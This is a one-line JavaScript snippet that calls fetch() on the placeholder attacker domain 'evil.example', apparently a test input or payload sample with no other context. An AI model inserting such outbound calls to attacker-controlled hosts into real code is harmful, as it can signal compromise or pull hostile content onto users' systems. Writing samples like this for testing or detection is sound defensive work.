fetch('https://evil.example/')
